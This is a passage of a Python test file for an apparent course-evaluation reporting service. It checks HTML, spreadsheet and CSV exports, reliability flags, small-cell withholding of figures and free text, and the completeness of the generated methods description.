    counts = grouped(html_tables["phase-counts"])
    everyone = counts[("", "All participants")]
    answered = {
        r.phases: r.n
        for r in report.analysis.phase_counts
        if r.breakdown == ALL and r.kind == "phase"
    }
    assert [c[2] for c in everyone[1:4]] == [str(answered[p]) for p in report.design.phases]
    assert ("Sex", "not stated") in counts and ("Role", "Frontline") in counts
    rows = grouped(html_tables["attrition-knowledge"])
    row = next(
        r
        for r in report.analysis.attrition
        if (r.measure, r.later_phase, r.breakdown, r.skill)
        == ("knowledge", "follow_up", ALL, TOTAL)
    )
    cells = rows[("Answered follow up or not: all participants, by skill", "Total (all skills)")]
    assert [c[2] for c in cells[1:3]] == [str(row.n_completed), str(row.n_dropped)]
    assert row.difference is not None and cells[5][2].startswith(_signed(row.difference, 1))


def test_negative_kr20_is_flagged_in_html_and_xlsx(html_tables, book, report) -> None:
    negative = [r for r in report.analysis.reliability if r.kr20_flag == "negative"]
    assert negative  # this cohort has some (fixed seed)
    for row in negative:
        assert row.kr20 is not None and row.kr20 < 0
        cells = grouped(html_tables[f"reliability-{row.comparison}"])
        skills = {s.id: s.name for s in report.skills} | {TOTAL: "Total (all skills)"}
        skill = skills[row.skill]
        flagged = [c for c in cells[("", skill)] if c[1] == "flag"]
        assert flagged and all(c[2].endswith("(negative)") for c in flagged)
    sheet = book["Reliability"]
    header = [c.value for c in sheet[1]]
    flags = [r[header.index("kr20_flag")].value for r in sheet.iter_rows(min_row=2)]
    assert flags.count("negative") == len(negative)


def test_responses_summarise_every_item_kind_per_phase(html_tables, served: str) -> None:
    def header(table: str) -> list[str]:
        return [c[2] for c in html_tables[table][0]]

    assert header("answers-pre-years")[2:] == ["Less than 3", "3 or more"]
    likert = header("answers-post-fb_exercises")
    assert likert[2] == "1 Strongly disagree" and likert[6] == "5 Strongly agree"
    assert likert[7:] == ["Does not apply", "Mean (SD)", "Top two"]
    assert "Does not apply" not in header("answers-post-fb_useful")
    assert header("answers-post-fb_hours")[2:] == ["Mean (SD)"]
    assert header("answers-post-fb_recommend")[2:] == ["True", "False"]
    assert header("answers-follow_up-ap_used")[2:] == [
        "Tracing requests", "MLA requests", "Contacts made at the course",
    ]  # fmt: skip
    everyone = grouped(html_tables["answers-post-fb_recommend"])[("", "All participants")]
    assert re.fullmatch(r"\d+ \(\d+\.\d%\)", everyone[2][2])
    for phase, item in (("post", "fb_text"), ("follow_up", "ap_barriers")):
        assert f'id="texts-{phase}-{item}"' in served
    assert 'id="answers-pre"' in served and 'id="answers-follow_up"' in served


def test_scoring_warning_when_submissions_follow_other_rules(built: Built, served: str) -> None:
    assert 'class="warning"' not in served
    items = tuple(
        msgspec.structs.replace(item, correct=("c",)) if item.id == "k1" else item
        for item in built.course.items
    )
    rekeyed = msgspec.structs.replace(built.course, items=items)
    report = built.report_for(rekeyed)
    stale = sum(built.scoring_counts.values())
    assert report.scoring.other_rules == stale > 0
    html = html_report.render_report(report, rekeyed, inline_css=True)
    assert 'class="warning"' in html
    assert f"{stale} submissions were scored under other scoring rules" in html
    assert "evalsvc rescore waves" in html


def test_bundled_course_uses_its_1_to_5_scale_and_phase_names(bundled: Built) -> None:
    html = html_report.render_report(bundled.report, bundled.course, inline_css=True)
    assert "Before the course → After the course (change over the course)" in html
    svg = html[html.index('<figure id="chart-all-confidence-pre_post"') :]
    svg = svg[: svg.index("</svg>")]
    ticks = re.findall(r'text-anchor="middle" fill="#4b5563">([\d.]+)</text>', svg)
    assert ticks == ["1", "2", "3", "4", "5"]
    assert "scale points (1-5)" in svg
    book = openpyxl.load_workbook(io.BytesIO(xlsx_export.workbook(bundled.report, BUNDLED)))
    assert book["Summary"].max_row == len(bundled.report.analysis.summary) + 1


def test_a_report_with_every_figure_withheld_renders(few: CourseReport, course: Course) -> None:
    assert few.analysis.n_participants == 2
    paired = [r for r in few.analysis.summary if r.n_paired]
    assert paired and all(r.withheld for r in paired)
    html = html_report.render_report(few, course, inline_css=True)
    assert "withheld: fewer than 3 people" in html
    assert "answers withheld" in html
    assert "&lt;script" not in html  # free text withheld below min_cell_size
    book = openpyxl.load_workbook(io.BytesIO(xlsx_export.workbook(few, course)))
    assert book["Summary"].max_row == len(few.analysis.summary) + 1
    for name, table in tables.report_tables(few).items():
        assert len(parse_csv(csv_export.table_csv(*table))) == len(table.rows), name


def test_an_empty_report_renders(empty: CourseReport, course: Course) -> None:
    assert empty.analysis.n_participants == 0
    html = html_report.render_report(empty, course, inline_css=False, links=LINKS)
    # the report is in its language (Russian here): its own words too (issue 14)
    assert "Пока никто не ответил на оба этапа." in html
    assert "никто не ответил на оба" in html
    assert "<svg" not in html  # no chart without data
    book = openpyxl.load_workbook(io.BytesIO(xlsx_export.workbook(empty, course)))
    assert book.sheetnames[0] == "Summary" and "Methods" in book.sheetnames
    for name, table in tables.report_tables(empty).items():
        csv_export.table_csv(*table)
        assert name != "texts" or table.rows == []


# -- methods ---------------------------------------------------------------------------------


def test_methods_define_every_statistic_that_appears_as_a_column(report, course) -> None:
    text = methods.methods_text(report, course)
    for spec in STRUCT_TABLES:
        assert spec.row_type is not None
        for meta in field_meta(spec.row_type):
            if meta.unit != "key" and meta.name != "notes":
                assert re.search(rf"\b{meta.name}\b", text), (spec.name, meta.name)


def test_methods_text_is_complete_for_the_new_statistics(report, course) -> None:
    text = methods.methods_text(report, course)
    for term in (
        "pseudo-median", "'exact'", "'permutation'", "'asymptotic'", "noncentral t",
        "exact when the gains are normally distributed", "d_z ± 1.96", "d_av", "Hedges' g_z",
        "Γ(df/2)", "Hake", "left out of this mean", "Wilson", "McNemar's exact test",
        "I don't know", "confirmatory", "exploratory", "count as 1", "Welch",
        "Kuder–Richardson 20", "min_n_reliability = 10", "regression to the mean",
        "same test taken twice", "no comparison group", "complementary", "small_group",
        "verifier", "pass mark is 60%", "from 0 to 10", "ddof=1",
    ):  # fmt: skip
        assert term.lower() in text.lower(), term
    audit = report.analysis.disclosure
    assert audit.verified
    assert (
        f"This report: {audit.published} sets of figures published, {audit.withheld} "
        "withheld, verified: yes." in text
    )
    assert audit.method in text
    assert "1 to 5" not in text.replace("not a fixed 1 to 5", "")


def test_exports_import_no_web_or_database_code() -> None:
    code = (
        "import sys; import evalsvc.exports.html_report, evalsvc.exports.xlsx_export, "
        "evalsvc.exports.csv_export, evalsvc.exports.tables, evalsvc.exports.methods, "
        "evalsvc.exports.registry; "
        "bad = [m for m in ('litestar', 'aiosqlite', 'sqlite3', 'evalsvc.storage', "
        "'evalsvc.web', 'evalsvc.reports') if m in sys.modules]; print(bad)"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )
    assert result.stdout.strip() == "[]"
